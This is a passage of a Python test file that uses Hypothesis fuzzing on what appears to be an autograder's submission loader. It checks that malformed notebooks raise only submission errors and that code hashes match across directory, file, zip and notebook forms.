    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=20,
)
_CELL = st.fixed_dictionaries(
    {"cell_type": st.sampled_from(["code", "markdown", "raw", "bogus"]), "source": st.text(max_size=80) | _JSON},
    optional={"metadata": _JSON, "outputs": _JSON, "execution_count": _JSON, "id": st.text(max_size=10)},
)
_NOTEBOOKISH = st.fixed_dictionaries(
    {"cells": st.lists(_CELL, max_size=4)},
    optional={"nbformat": st.sampled_from([3, 4, 5, "4", None]), "nbformat_minor": st.integers(-1, 10), "metadata": _JSON},
)


@FUZZ
@given(doc=_JSON | _NOTEBOOKISH)
def test_arbitrary_json_notebooks_only_raise_submission_error(tmp_path: Path, doc: object) -> None:
    _load_or_error(write(tmp_path / "fuzz.ipynb", json.dumps(doc)))


@FUZZ
@given(sources=st.lists(st.text(st.characters(blacklist_categories=["Cs"]), max_size=60), min_size=1, max_size=5))
def test_notebooks_with_arbitrary_cell_text_only_raise_submission_error(tmp_path: Path, sources: list[str]) -> None:
    _load_or_error(make_notebook(tmp_path / "fuzz.ipynb", sources))


_STATEMENTS = st.lists(
    st.tuples(st.from_regex(r"[a-z_][a-z0-9_]{0,8}", fullmatch=True), st.integers() | st.text(max_size=10)).map(
        lambda pair: f"{pair[0]}_ = {pair[1]!r}"
    ),
    min_size=1,
    max_size=6,
)


@FUZZ
@given(blocks=st.lists(_STATEMENTS, min_size=1, max_size=4))
def test_sha256_is_the_same_across_kinds_for_any_code(tmp_path: Path, blocks: list[list[str]]) -> None:
    cells = ["\n".join(block) for block in blocks]
    code = "\n\n".join(cells) + "\n"
    sources = [
        make_dir(tmp_path / "d", {"autograd.py": code}),
        write(tmp_path / "f.py", code),
        make_zip(tmp_path / "z.zip", {"lab/autograd.py": code}),
        make_notebook(tmp_path / "n.ipynb", cells),
    ]
    hashes = set()
    for src in sources:
        with load_submission(src) as sub:
            hashes.add(sub.sha256)
    assert hashes == {manifest_hash(code.encode())}
